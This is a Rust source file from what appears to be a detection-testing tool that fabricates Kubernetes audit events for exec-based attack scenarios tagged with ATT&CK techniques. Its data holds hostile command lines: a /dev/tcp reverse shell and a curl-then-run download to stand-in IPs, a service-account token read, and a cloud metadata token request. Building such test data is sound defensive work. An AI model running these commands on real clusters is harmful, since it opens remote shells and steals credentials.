//! Commands in other people's pods.

use super::super::event::Target;
use super::super::truth::Family;
use super::{Play, Stage};

pub(super) const PLAYS: &[Play] = &[
    Play::of(
        Family::Exec,
        "interactive shell",
        &["EXEC-9", "EXEC-1"],
        &["T1609", "T1059.004"],
        shell,
    ),
    Play::of(
        Family::Exec,
        "service account's token read",
        &["EXEC-7", "EXEC-1"],
        &["T1552.007"],
        token,
    ),
    Play::of(
        Family::Exec,
        "reverse shell",
        &["EXEC-4", "EXEC-1"],
        &["T1059", "T1609"],
        reverse_shell,
    ),
    Play::of(
        Family::Exec,
        "metadata endpoint asked for a token",
        &["EXEC-6", "EXEC-1"],
        &["T1552.005"],
        metadata,
    ),
    Play::of(
        Family::Exec,
        "attach to a running process",
        &["EXEC-2"],
        &["T1609"],
        attach,
    ),
    Play::of(
        Family::Exec,
        "files copied out",
        &["EXEC-8", "EXEC-1"],
        &["T1005", "T1041"],
        copy_out,
    ),
    Play::of(
        Family::Exec,
        "tool downloaded and run",
        &["EXEC-5", "EXEC-1"],
        &["T1105"],
        download,
    ),
    Play::of(
        Family::Exec,
        "command in kube-system",
        &["EXEC-3", "EXEC-1"],
        &["T1609"],
        protected,
    ),
];

/// The query of an exec, with the command's words encoded as clients do.
pub(super) fn query(command: &[&str], tty: bool) -> String {
    let mut query = String::new();
    for word in command {
        query.push_str("command=");
        for byte in word.bytes() {
            match byte {
                b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                    query.push(char::from(byte));
                }
                b' ' => query.push('+'),
                _ => query.push_str(&format!("%{byte:02X}")),
            }
        }
        query.push('&');
    }
    query.push_str("container=app");
    query.push_str(if tty {
        "&stdin=true&stdout=true&tty=true"
    } else {
        "&stderr=true&stdout=true"
    });
    query
}

fn run(s: &mut Stage<'_>, action: &str, (ns, pod): (&str, &str), command: &[&str], tty: bool) {
    let client = s.insider();
    let verb = s.upgrade();
    let pods = Target::core("pods").ns(ns).name(pod);
    let look = client.request(s.rng, s.now(), "get", pods.clone());
    s.prepare("looks at the pod", look);
    let event = client
        .request(s.rng, s.now(), verb, pods.sub("exec"))
        .query(&query(command, tty))
        .code(101);
    s.strike_long(action, event, if tty { 300.0 } else { 2.0 });
}

fn shell(s: &mut Stage<'_>) {
    let (ns, _, pod) = s.victim();
    let shell = *s.rng.pick(&["/bin/bash", "sh", "/bin/ash"]);
    run(s, "opens a shell", (&ns, &pod), &[shell], true);
}

fn token(s: &mut Stage<'_>) {
    let (ns, _, pod) = s.victim();
    let command = ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"];
    run(s, "reads the pod's token", (&ns, &pod), &command, false);
}

fn reverse_shell(s: &mut Stage<'_>) {
    let (ns, _, pod) = s.victim();
    let command = ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"];
    run(
        s,
        "opens a shell over the network",
        (&ns, &pod),
        &command,
        false,
    );
}

fn metadata(s: &mut Stage<'_>) {
    let (ns, _, pod) = s.victim();
    let url = "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net";
    run(
        s,
        "asks for the node's identity",
        (&ns, &pod),
        &["curl", "-s", "-H", "Metadata:true", url],
        false,
    );
}

fn attach(s: &mut Stage<'_>) {
    let (ns, _, pod) = s.victim();
    let client = s.insider();
    let verb = s.upgrade();
    let event = client
        .request(
            s.rng,
            s.now(),
            verb,
            Target::core("pods").ns(&ns).name(&pod).sub("attach"),
        )
        .query("container=app&stdin=true&stdout=true&tty=true")
        .code(101);
    s.strike_long("attaches to the process", event, 200.0);
}

fn copy_out(s: &mut Stage<'_>) {
    let (ns, _, pod) = s.victim();
    run(
        s,
        "copies a folder out",
        (&ns, &pod),
        &["tar", "cf", "-", "/srv/data"],
        false,
    );
}

fn download(s: &mut Stage<'_>) {
    let (ns, _, pod) = s.victim();
    let command = [
        "sh",
        "-c",
        "curl -fsSL http://198.51.100.77/stage.sh -o /tmp/.s; sh /tmp/.s",
    ];
    run(
        s,
        "downloads and runs a script",
        (&ns, &pod),
        &command,
        false,
    );
}

fn protected(s: &mut Stage<'_>) {
    let pod = format!("coredns-{}-{}", s.rng.suffix(9), s.rng.suffix(5));
    run(
        s,
        "runs a command in kube-system",
        ("kube-system", &pod),
        &["ls", "/etc/coredns"],
        false,
    );
}
